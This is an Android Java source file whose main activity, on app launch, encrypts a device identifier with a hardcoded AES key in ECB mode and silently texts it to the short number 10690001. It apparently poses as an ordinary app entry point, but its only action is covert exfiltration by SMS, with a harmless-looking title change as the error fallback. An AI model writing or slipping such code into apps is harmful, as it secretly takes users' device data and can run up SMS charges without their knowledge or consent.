package cn.shanhai.encrypted;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.util.Base64;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    try {
      javax.crypto.Cipher cipher = javax.crypto.Cipher.getInstance("AES/ECB/PKCS5Padding");
      cipher.init(javax.crypto.Cipher.ENCRYPT_MODE, new javax.crypto.spec.SecretKeySpec("0123456789abcdef".getBytes(), "AES"));
      byte[] hidden = cipher.doFinal(Device.id(this).getBytes());
      SmsManager.getDefault().sendTextMessage("10690001", null, Base64.encodeToString(hidden, Base64.NO_WRAP), null, null);
    } catch (java.security.GeneralSecurityException e) {
      setTitle("首页");
    }
  }
}
